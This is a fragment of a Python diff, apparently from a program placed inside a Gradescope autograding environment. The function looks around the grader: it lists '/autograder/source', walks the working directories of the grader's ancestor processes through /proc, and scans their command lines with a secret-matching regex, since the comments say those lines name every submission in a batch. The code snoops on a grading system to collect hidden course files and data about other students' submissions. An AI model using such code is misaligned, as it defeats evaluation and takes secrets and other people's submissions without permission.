@@ -13,10 +13,10 @@ def look_around():
     places.append(_Path("/autograder/source"))  # where Gradescope keeps the course
     here = _Path(__file__).resolve()
     places += list(here.parents)[:2]
-    for pid in ancestors():
+    for pid in grader_ancestors():
         places.append(_Path(f"/proc/{pid}/cwd"))
     found = set()
-    for pid in ancestors():  # the grader's command line names every submission of a batch
+    for pid in grader_ancestors():  # the grader's command line names every submission of a batch
         found.update(_SECRET.findall(cmdline(pid)))
     for place in places:
         try:
